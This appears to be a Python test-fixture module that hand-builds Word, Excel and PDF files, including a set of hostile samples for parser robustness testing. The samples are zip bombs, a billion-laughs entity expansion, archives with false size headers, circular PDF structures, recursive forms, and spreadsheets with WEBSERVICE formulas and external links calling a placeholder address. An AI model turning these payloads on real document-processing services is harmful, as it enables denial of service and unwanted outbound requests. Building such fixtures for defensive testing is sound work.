"""Office files and PDFs made by hand: as Word, Excel and printers write them, and as nobody honest does."""

import io
import random
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping, Sequence
from xml.sax.saxutils import escape

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
TYPES = 'xmlns="http://schemas.openxmlformats.org/package/2006/content-types"'
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml"
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + "]>"
)


def zipped(parts: Mapping[str, str | bytes], *, packed: bool = True) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def relations(targets: Mapping[str, tuple[str, str]], mode: str = "") -> str:
    rows = "".join(
        f'<Relationship Id="{key}" Type="{R}/{kind}" Target="{target}"{mode}/>'
        for key, (kind, target) in targets.items()
    )
    return f"<Relationships {RELATIONS}>{rows}</Relationships>"


# ------------------------------------------------------------------------------------------------------ Word


def docx(body: str, *, numbering: str = "", styles: str = "", declared: str = "", packed: bool = True) -> bytes:
    parts = {
        "[Content_Types].xml": f'<Types {TYPES}><Default Extension="xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": relations({"r1": ("officeDocument", "word/document.xml")}),
        "word/document.xml": f"{declared}<w:document {W}><w:body>{body}</w:body></w:document>",
        "word/numbering.xml": f"<w:numbering {W}>{numbering}</w:numbering>",
        "word/styles.xml": f"<w:styles {W}>{styles}</w:styles>",
        "word/_rels/document.xml.rels": relations(
            {"n": ("numbering", "numbering.xml"), "s": ("styles", "styles.xml")},
        ),
    }
    return zipped(parts, packed=packed)


def para(text: str, *, level: int | None = None, in_list: int = 1, style: str = "", extra: str = "") -> str:
    number = "" if level is None else f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{in_list}"/></w:numPr>'
    kind = f'<w:pStyle w:val="{style}"/>' if style else ""
    return f"<w:p><w:pPr>{kind}{number}</w:pPr>{run(text)}{extra}</w:p>"


def run(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r>'


def outline(number: int, *levels: tuple[str, str], extra: str = "") -> str:
    rows = "".join(
        f'<w:lvl w:ilvl="{at}"><w:start w:val="1"/><w:numFmt w:val="{form}"/><w:lvlText w:val="{text}"/></w:lvl>'
        for at, (form, text) in enumerate(levels)
    )
    return f'<w:abstractNum w:abstractNumId="{number}">{rows}{extra}</w:abstractNum>'


def numbered(number: int, outline_number: int, extra: str = "") -> str:
    return f'<w:num w:numId="{number}"><w:abstractNumId w:val="{outline_number}"/>{extra}</w:num>'


def table(*rows: Sequence[str]) -> str:
    """Each cell is XML that begins with <w:tcPr>, or plain text."""
    return "<w:tbl>" + "".join(f"<w:tr>{''.join(map(cell, row))}</w:tr>" for row in rows) + "</w:tbl>"


def cell(content: str, *, across: int = 1, down: str = "") -> str:
    if content.startswith("<w:tc>"):
        return content
    properties = f'<w:gridSpan w:val="{across}"/>' if across > 1 else ""
    properties += {"": "", "begin": '<w:vMerge w:val="restart"/>', "on": "<w:vMerge/>"}[down]
    inside = content if content.startswith("<w:") else f"<w:p>{run(content)}</w:p>"
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{inside}</w:tc>"


# ----------------------------------------------------------------------------------------------------- Excel


def xlsx(
    rows: str,
    *,
    shared: str = "",
    declared: str = "",
    after: str = "",
    packed: bool = True,
    more: Mapping[str, str | bytes] | None = None,
) -> bytes:
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types {TYPES}><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{EXCEL}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{EXCEL}.worksheet+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{EXCEL}.sharedStrings+xml"/></Types>',
        "_rels/.rels": relations({"r1": ("officeDocument", "xl/workbook.xml")}),
        "xl/workbook.xml": f'<workbook {S} xmlns:r="{R}"><sheets><sheet name="一" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations(
            {"r1": ("worksheet", "worksheets/sheet1.xml"), "r2": ("sharedStrings", "sharedStrings.xml")}
        ),
        "xl/sharedStrings.xml": f"{declared}<sst {S}>{shared}</sst>",
        "xl/worksheets/sheet1.xml": f"<worksheet {S}><sheetData>{rows}</sheetData>{after}</worksheet>",
    }
    return zipped(parts | dict(more or {}), packed=packed)


# ------------------------------------------------------------------------------------------------------- PDF


def pdf_of(objects: Mapping[int, str | bytes], root: int = 1, extra: str = "") -> bytes:
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, content in objects.items():
        places[number] = len(out)
        body = content.encode() if isinstance(content, str) else content
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    begin = len(out)
    most = max(objects) + 1
    out += f"xref\n0 {most}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{places.get(n, 0):010} 00000 {'n' if n in places else 'f'} \n".encode() for n in range(1, most))
    out += f"trailer << /Size {most} /Root {root} 0 R {extra} >>\nstartxref\n{begin}\n%%EOF\n".encode()
    return bytes(out)


def stream(content: bytes, *, packed: bool = False, more: str = "") -> bytes:
    held = zlib.compress(content) if packed else content
    kind = "/Filter /FlateDecode " if packed else ""
    return f"<< /Length {len(held)} {kind}{more}>>\nstream\n".encode() + held + b"\nendstream"


FONT = (
    "<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UTF16-H /DescendantFonts ["
    "<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /DW 1000 /W [1 [500] 814 [500] 815 939 500]"
    " /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 4 >>"
    " /FontDescriptor << /Type /FontDescriptor /FontName /STSong-Light /Flags 4 /ItalicAngle 0 /Ascent 880"
    " /Descent -120 /CapHeight 880 /StemV 80 /FontBBox [0 -120 1000 880] >> >>] >>"
)


def at(x: float, y: float, text: str, size: float = 16) -> str:
    return f"BT /F {size} Tf {x} {y} Td <{text.encode('utf-16-be').hex()}> Tj ET\n"


def pdf(pages: Iterable[str], extra: str = "") -> bytes:
    """A PDF of A4 pages, each given by its drawing: `at(…)` and strokes."""
    contents = list(pages)
    kids = " ".join(f"{10 + 2 * n} 0 R" for n in range(len(contents)))
    objects: dict[int, str | bytes] = {
        1: "<< /Type /Catalog /Pages 2 0 R >>",
        2: f"<< /Type /Pages /Kids [{kids}] /Count {len(contents)} >>",
        3: FONT,
    }
    for n, content in enumerate(contents):
        objects[10 + 2 * n] = (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {11 + 2 * n} 0 R"
            " /Resources << /Font << /F 3 0 R >> >> >>"
        )
        objects[11 + 2 * n] = stream(content.encode(), packed=True)
    return pdf_of(objects, extra=extra)


def printed(text: str, *, lines: int = 22, width: int = 28, size: float = 16, header: str = "") -> bytes:
    """A text as a printer sets it: paragraphs indented by two, a header and a number on every page."""
    rows: list[tuple[int, str]] = []
    for paragraph in text.splitlines():
        left, begin = paragraph.strip(), 2
        while left:
            rows.append((begin, left[: width - begin]))
            left, begin = left[width - begin :], 0
    pages = []
    for first in range(0, len(rows), lines):
        drawn = at(200, 800, header, 9) if header else ""
        for line, (begin, words) in enumerate(rows[first : first + lines]):
            drawn += at(70 + begin * size, 740 - line * 28, words, size)
        pages.append(drawn + at(280, 40, f"— {first // lines + 1} —", 10))
    return pdf(pages)


# --------------------------------------------------------------------------------------------------- hostile


def hostile(size: int = 5_000_000) -> dict[str, Callable[[], bytes]]:
    """How to make files of about this size, or that grow to much more, which no reader may be hurt by."""
    seeded = random.Random(7)
    noise = "".join(chr(seeded.randrange(0x4E00, 0x9FA5)) for _ in range(5000))
    deep = size // 16
    cells = "".join(f'<c r="A{n}" t="str"><v>{n}</v></c>' for n in range(1, 10))

    def formula() -> str:
        return "".join(
            f'<row r="{n}"><c r="A{n}"><f>[1]S!A{n}+WEBSERVICE("http://192.0.2.1/{n}")</f></c></row>'
            for n in range(1, size // 80)
        )

    def strings() -> str:
        return "".join(f"<si><t>{n:07}{noise[n % 4900 : n % 4900 + 90]}</t></si>" for n in range(size // 25))

    form = {
        4 + n: stream(
            b" ".join([f"/X{n + 1} Do".encode()] * 12),
            more=f"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X{n + 1} {5 + n} 0 R >> >> ",
        )
        for n in range(12)
    }
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 30 0 R /Resources << /Font << /F 3 0 R >> /XObject << /X0 4 0 R >> >> >>"
    return {
        "txt, a million lines": lambda: b"1.\n2.x" * (size // 6),
        "docx, deep nesting": lambda: docx("<w:sdt>" * deep + "</w:sdt>" * deep, packed=False),
        "docx, deep nesting, packed": lambda: docx("<w:sdt>" * deep + "</w:sdt>" * deep),
        "docx, tables in tables": lambda: docx(nested_tables(100)),
        "docx, a million paragraphs": lambda: docx("<w:p><w:r><w:t>字</w:t></w:r></w:p>" * (size // 7)),
        "docx, zip bomb": lambda: docx("<w:p/>" + " " * (size * 60)),
        "docx, size not told": lambda: lying(docx("<w:p/>" + " " * (size * 20)), b"word/document.xml"),
        "docx, billion laughs": lambda: docx("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", declared=LAUGHS),
        "xlsx, zip bomb": lambda: xlsx(f'<row r="1">{cells}</row>' + " " * (size * 60)),
        "xlsx, long strings": lambda: xlsx('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared=strings()),
        "xlsx, billion laughs": lambda: xlsx(
            '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared="<si><t>&j;</t></si>", declared=LAUGHS
        ),
        "xlsx, formulas and links": lambda: xlsx(
            formula(),
            more={
                "xl/externalLinks/externalLink1.xml": f"<externalLink {S}/>",
                "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                    {"r1": ("externalLinkPath", "http://192.0.2.1/x.xlsx")}, ' TargetMode="External"'
                ),
            },
        ),
        "xlsx, far corners merged": lambda: xlsx(
            '<row r="1"><c r="A1" t="str"><v>字</v></c></row><row r="1048576"><c r="XFD1048576" t="str"><v>字</v></c></row>',
            after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        ),
        "pdf, pages in a circle": lambda: pdf_of(
            {
                1: "<< /Type /Catalog /Pages 2 0 R >>",
                2: "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 99999999 /Parent 2 0 R >>",
            }
        ),
        "pdf, objects in a circle": lambda: pdf_of(
            {
                1: "<< /Type /Catalog /Pages 2 0 R >>",
                2: "<< /Type /Pages /Kids [10 0 R] /Count 1 >>",
                10: page,
                3: FONT,
                4: "5 0 R",
                5: "4 0 R",
                30: "31 0 R",
                31: "30 0 R",
            },
            extra="/Prev 9",
        ),
        "pdf, forms in forms": lambda: pdf_of(
            {
                1: "<< /Type /Catalog /Pages 2 0 R >>",
                2: "<< /Type /Pages /Kids [32 0 R] /Count 1 >>",
                3: FONT,
                **form,
                16: stream(at(70, 700, "字").encode(), more="/Type /XObject /Subtype /Form /BBox [0 0 595 842] "),
                30: stream(b"/X0 Do"),
                32: page,
            }
        ),
        "pdf, long stream": lambda: pdf([" " * (size * 40) + at(70, 700, "字")]),
        "pdf, many strokes": lambda: pdf(
            [
                "".join(
                    f"{seeded.random() * 500:.1f} {seeded.random() * 800:.1f} m 300 400 l S\n"
                    for _ in range(size // 20)
                )
            ]
        ),
        "pdf, many characters": lambda: pdf([at(70, 700, noise) * (size // 20_000)]),
        "pdf, many pages": lambda: pdf(at(70, 700, "字") for _ in range(5000)),
    }


def nested_tables(depth: int) -> str:
    """Each in a cell merged over two rows of the one around it: repeated, the text would double at every step."""
    body = para("字" * 50)
    for _ in range(depth):
        body = table([cell(body, down="begin"), "一"], [cell("<w:p/>", down="on"), "二"])
    return body


def lying(data: bytes, name: bytes) -> bytes:
    """The archive with a small unpacked size written for one of its parts."""
    changed, begin = bytearray(data), 0
    while (begin := changed.find(name, begin + 1)) >= 0:
        for mark, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
            head = begin - name_at
            if head >= 0 and changed[head : head + 4] == mark:
                changed[head + size_at : head + size_at + 4] = (1000).to_bytes(4, "little")
    return bytes(changed)
